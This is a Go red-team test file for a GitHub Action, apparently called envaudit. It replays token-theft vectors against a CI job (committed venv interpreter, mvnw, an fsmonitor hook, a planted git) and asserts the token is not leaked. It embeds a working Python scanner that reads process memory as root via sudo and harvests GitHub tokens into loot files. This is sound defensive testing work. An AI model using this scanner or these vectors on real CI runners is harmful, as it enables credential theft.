package redteam

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// tokenVector is one way a program the pull request controls may come to
// run beside the token.
type tokenVector struct {
	name    string
	fixture string
	loot    string // the name its loot files start with
	run     string // the test command, "node test.js" when empty
}

// tokenVectors are issue 10's four ways to the token: programs envaudit
// starts itself, outside the trace, that the pull request controls. Each
// runs steal.sh through sudo, reading every process's environment block.
var tokenVectors = []tokenVector{
	// A committed .venv/bin/python, which envaudit asks about the
	// installation even when the tests use no Python.
	{name: "venvPython", fixture: "token-venv", loot: "venv-python"},
	// The same interpreter, which the tests run in too.
	{name: "venvPythonTestsRunIt", fixture: "token-venv", loot: "venv-python", run: ".venv/bin/python -c pass && node test.js"},
	// A committed mvnw, run when mvn is not on PATH.
	{name: "mvnw", fixture: "token-mvnw", loot: "mvnw"},
	// The same wrapper, which the tests run too.
	{name: "mvnwTestsRunIt", fixture: "token-mvnw", loot: "mvnw", run: "bash -c './mvnw -v; node test.js'"},
	// A core.fsmonitor hook the test writes into .git/config, run by
	// envaudit's git diff.
	{name: "fsmonitor", fixture: "token-fsmonitor", loot: "fsmonitor"},
	// A git the test plants in ~/.local/bin, first on PATH.
	{name: "plantedGit", fixture: "token-git", loot: "planted-git"},
}

// command is the vector's test command.
func (v tokenVector) command() string {
	if v.run == "" {
		return "node test.js"
	}
	return v.run
}

// holderOf names, for each loot file holding the token, the process whose
// environment block or command line held it ("PID COMM").
func holderOf(j *job, files []string) []string {
	var out []string
	for _, f := range files {
		data, err := os.ReadFile(filepath.Join(j.root, f))
		if err != nil {
			continue
		}
		proc := "?"
		for _, line := range strings.Split(string(data), "\n") {
			if p, ok := strings.CutPrefix(line, "== "); ok {
				proc = p
			}
			if strings.Contains(line, j.token) {
				k, _, _ := strings.Cut(line, "=")
				out = append(out, fmt.Sprintf("%s: %s in process %s", f, k, proc))
				break
			}
		}
		if proc == "?" {
			out = append(out, f)
		}
	}
	return out
}

// ran says whether a vector's program ran and whether its sudo worked,
// from the .ran file it writes: "status parent-pid parent-comm" a line.
func ran(j *job, name string) string {
	data, err := os.ReadFile(filepath.Join(j.loot, name+".ran"))
	if err != nil {
		return "never ran"
	}
	var runs []string
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		f := strings.Fields(line)
		if len(f) < 3 {
			continue
		}
		how := "sudo worked"
		if f[0] != "0" {
			how = "sudo refused"
		}
		runs = append(runs, fmt.Sprintf("ran under %s (%s)", f[2], how))
	}
	return strings.Join(dedup(runs), ", ")
}

func dedup(s []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, v := range s {
		if !seen[v] {
			seen[v] = true
			out = append(out, v)
		}
	}
	return out
}

// TestAttackTokenTheft reproduces issue 10's "the token was stolen four
// ways" in a job that holds a write token beside the pull request's code
// (mode single; before issue 10, the Action's only job mode): a committed
// .venv/bin/python, a committed mvnw, a core.fsmonitor hook in
// .git/config and a git planted in a user-writable PATH directory each
// read every process's /proc/PID/environ (and command line) through sudo;
// the interpreter and the wrapper also with tests that run them, which
// may make envaudit run them outside the trace.
// The job also exports the token as GITHUB_TOKEN to every step, as many
// workflows do. The token must be in none of the files they wrote.
func TestAttackTokenTheft(t *testing.T) {
	for _, v := range tokenVectors {
		t.Run(v.name, func(t *testing.T) {
			j := newJob(t, v.fixture)
			j.extraEnv = append(j.extraEnv, "GITHUB_TOKEN="+j.token)
			j.inputs["run"] = v.command()
			j.inputs["working-directory"] = "app"
			j.inputs["mode"] = j.e.mode("single")
			res := j.run(0)
			found := j.tokenIn()
			how := ran(j, v.loot)
			if len(found) > 0 {
				observe(t, false, "%s %s; the token was read: %s", v.name, how, strings.Join(holderOf(j, found), "; "))
				return
			}
			observe(t, true, "%s %s; the token is in none of %d loot files (step exit %d)", v.name, how, len(j.lootNames()), res.code)
		})
	}
}

// TestAttackAuditModeWrites runs the same vectors in mode audit, the
// job of the two-workflow setup that runs the pull request's code: there
// the token is read-only by design, and envaudit must send no write
// request to the API at all (no review, comment, check run or snapshot).
func TestAttackAuditModeWrites(t *testing.T) {
	for _, v := range tokenVectors {
		t.Run(v.name, func(t *testing.T) {
			j := newJob(t, v.fixture)
			j.inputs["run"] = v.command()
			j.inputs["working-directory"] = "app"
			j.inputs["mode"] = "audit"
			res := j.run(0)
			w := j.writes()
			stolen := "token not read"
			if found := j.tokenIn(); len(found) > 0 {
				stolen = "token read (" + strings.Join(holderOf(j, found), "; ") + ")"
			}
			observe(t, len(w) == 0, "mode audit: %d write requests %v; %s %s, %s (step exit %d)", len(w), w, v.name, ran(j, v.loot), stolen, res.code)
		})
	}
}

// memScanner is run as root through sudo by the committed interpreter: it
// reads the writable memory of every process of the job's user
// (/proc/PID/maps, /proc/PID/mem) and writes each string that looks like
// a GitHub token to the loot directory, with the process that held it.
const memScanner = `import os, re, sys
loot = sys.argv[1]
uid = int(sys.argv[2])
pat = re.compile(rb'gh[pousr]_[A-Za-z0-9]{20,}')
out = []
for pid in os.listdir('/proc'):
    try:
        if not pid.isdigit() or os.stat('/proc/' + pid).st_uid != uid:
            continue
        comm = open('/proc/%s/comm' % pid).read().strip()
        maps = open('/proc/%s/maps' % pid).read().splitlines()
        mem = open('/proc/%s/mem' % pid, 'rb', 0)
    except OSError:
        continue
    for m in maps:
        f = m.split()
        if 'r' not in f[1] or (len(f) > 5 and f[5].startswith('[v')):
            continue
        lo, hi = (int(x, 16) for x in f[0].split('-'))
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue
        for t in set(pat.findall(data)):
            out.append('%s %s %s' % (pid, comm, t.decode()))
open(os.path.join(loot, 'mem-%d' % os.getpid()), 'w').write('\n'.join(out) + '\n')
`

// TestDocumentedLimitHolderMemory is the documented limit of mode single:
// the token's holder keeps the token in its memory, and on a runner with
// passwordless sudo root reads any process's memory. The committed
// interpreter (issue 10's first vector) reads /proc/PID/mem of every
// process of the job's user through sudo. The test asserts what
// docs/action.md says: where it says root can read any process's memory,
// that the token is found there, in the holder; where it claims the
// memory is out of reach, that it is not.
func TestDocumentedLimitHolderMemory(t *testing.T) {
	j := newJob(t, "token-venv")
	j.writeFile(filepath.Join(j.loot, "scan.py"), memScanner, 0o644)
	py := filepath.Join(j.app, ".venv", "bin", "python")
	data, err := os.ReadFile(py)
	if err != nil {
		t.Fatal(err)
	}
	scan := fmt.Sprintf("sudo -n /usr/bin/python3 %s %s %d 2>>%s/mem.err\n", filepath.Join(j.loot, "scan.py"), j.loot, j.e.uid, j.loot)
	j.writeFile(py, strings.Replace(string(data), "exec /usr/bin/python3", scan+"exec /usr/bin/python3", 1), 0o755)
	// The tests run in the interpreter, so that envaudit may run it too,
	// outside the trace, where sudo works.
	j.inputs["run"] = ".venv/bin/python -c pass && node test.js"
	j.inputs["working-directory"] = "app"
	j.inputs["mode"] = j.e.mode("single")
	res := j.run(0)

	var hits []string
	for _, name := range j.lootNames() {
		if !strings.HasPrefix(name, "mem-") {
			continue
		}
		data, _ := os.ReadFile(filepath.Join(j.loot, name))
		for _, line := range strings.Split(string(data), "\n") {
			if strings.Contains(line, j.token) {
				f := strings.Fields(line)
				hits = append(hits, f[0]+" "+f[1])
			}
		}
	}
	hits = dedup(hits)
	documented := regexp.MustCompile(`root can read any\s+process's memory`).MatchString(j.e.docs)
	switch {
	case documented && len(hits) > 0:
		observe(t, true, "documented limit: root read the token from the memory of %v, as docs/action.md says it can (step exit %d)", hits, res.code)
	case documented && !strings.Contains(ran(j, "venv-python"), "sudo worked"):
		// envaudit runs its tools under no_new_privs: the committed
		// interpreter, run by envaudit outside the trace, gets no sudo,
		// so no program of the pull request's that envaudit starts
		// reaches root. The limit docs/action.md states (root can read
		// any process's memory) is then left to other steps of the job.
		observe(t, true, "the committed interpreter envaudit ran could not use sudo (no_new_privs), so it read no memory as root: %s (step exit %d)", ran(j, "venv-python"), res.code)
	case documented:
		observe(t, true, "the memory scan as root found no token, which docs/action.md allows (step exit %d)", res.code)
	case len(hits) > 0:
		observe(t, false, "docs/action.md says the memory is out of reach, yet root read the token from the memory of %v", hits)
	default:
		observe(t, true, "the memory scan as root found no token, as docs/action.md says (step exit %d)", res.code)
	}
}
